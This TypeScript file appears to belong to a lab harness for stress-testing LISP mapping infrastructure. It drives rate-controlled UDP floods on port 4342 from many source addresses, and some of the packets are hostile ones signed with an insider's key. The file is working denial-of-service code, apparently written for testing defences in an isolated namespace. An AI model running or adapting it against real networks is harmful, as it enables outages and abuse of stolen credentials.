/**
 * Sends a flood at an even rate from many addresses; a process of its own inside the attacker's
 * namespace. One JSON line on stdin is one flood (see `Flood`); says how many were sent when done.
 */
import { createSocket, type Socket } from 'node:dgram'
import { createInterface } from 'node:readline'
import { createHostilePackets, goodQuestion, type HostilePackets } from './hostile-packets.js'

export interface Flood {
  readonly kind: 'map-server' | 'xtr'
  readonly to: string
  readonly count: number
  readonly perSecond: number
  /** Undefined: good questions about `prefixes`. */
  readonly seed: number | undefined
  readonly first: number
  readonly sources: readonly string[]
  readonly prefixes: readonly string[]
  readonly insider: { readonly keyId: number; readonly secret: string }
  readonly insiderPrefix: string
}

const TICK_MS = 4
/** Seeds take a second to prepare: kept from one flood to the next. */
const prepared = new Map<string, HostilePackets>()
/** After a pause of the whole machine no more than this comes at once. */
const MAXIMUM_BURST = 256

for await (const line of createInterface({ input: process.stdin })) {
  const flood = JSON.parse(line) as Flood
  const sockets = await Promise.all(flood.sources.map((source) => openSocket(source, flood.to)))
  process.stdout.write(`${await send(flood, sockets)}\n`)
  for (const socket of sockets) socket.close()
}

async function send(flood: Flood, sockets: readonly Socket[]): Promise<number> {
  const packetOf = packetsOf(flood)
  packetOf(flood.first)
  let sent = 0
  let due = 0
  let last = performance.now()
  while (sent < flood.count) {
    const now = performance.now()
    due = Math.min(due + ((now - last) * flood.perSecond) / 1000, MAXIMUM_BURST)
    last = now
    for (; due >= 1 && sent < flood.count; due -= 1) {
      const number = flood.first + sent
      // Sends are asynchronous, and the next packet takes the place of this one.
      sockets[number % sockets.length]!.send(Uint8Array.from(packetOf(number)))
      sent += 1
    }
    await new Promise((resolve) => setTimeout(resolve, TICK_MS))
  }
  return sent
}

function packetsOf(flood: Flood): (number: number) => Uint8Array {
  const { kind, prefixes, sources, insider, insiderPrefix } = flood
  if (flood.seed === undefined) {
    return (number) => {
      const prefix = prefixes[Math.floor(number / sources.length) % prefixes.length]!
      return goodQuestion(kind, sources[number % sources.length]!, prefix, BigInt(number))
    }
  }
  const secret = new Uint8Array(Buffer.from(insider.secret, 'hex'))
  const key = { keyId: insider.keyId, algorithm: 3, secret } as const
  const aim = { kind, insider: key, insiderPrefix, prefixes: prefixes.slice(0, 8) }
  const name = `${kind} ${flood.seed}`
  const packets = prepared.get(name) ?? createHostilePackets(flood.seed, aim)
  prepared.set(name, packets)
  return (number) => packets.packet(number)
}

function openSocket(from: string, to: string): Promise<Socket> {
  return new Promise((resolve, reject) => {
    const socket = createSocket({ type: 'udp4', reuseAddr: true })
    socket.once('error', reject)
    socket.bind(4342, from, () =>
      socket.connect(4342, to, () => {
        socket.off('error', reject)
        // Answers are not read, and unreachable ports are the victim's affair.
        socket.on('error', () => {})
        resolve(socket)
      }),
    )
  })
}
